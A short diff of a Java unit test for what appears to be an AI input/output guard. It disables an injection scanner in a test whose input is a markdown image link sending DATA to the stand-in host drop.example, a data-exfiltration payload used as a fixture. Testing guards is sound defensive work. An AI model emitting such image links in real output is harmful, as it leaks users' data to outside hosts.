@@ -133,7 +133,7 @@ final class OutputScannersTest {
         GUARD.inspect(
             List.of(Segment.of("m", "![x](https://drop.example/p?d=" + DATA + ")", Origin.USER)),
             Direction.INPUT,
-            Policy.balanced(),
+            Policy.balanced().toBuilder().scanner(Scanners.INJECTION, ScannerPolicy.off()).build(),
             GuardContext.none());
 
     assertThat(inspection.verdict()).isEqualTo(Verdict.ALLOW);
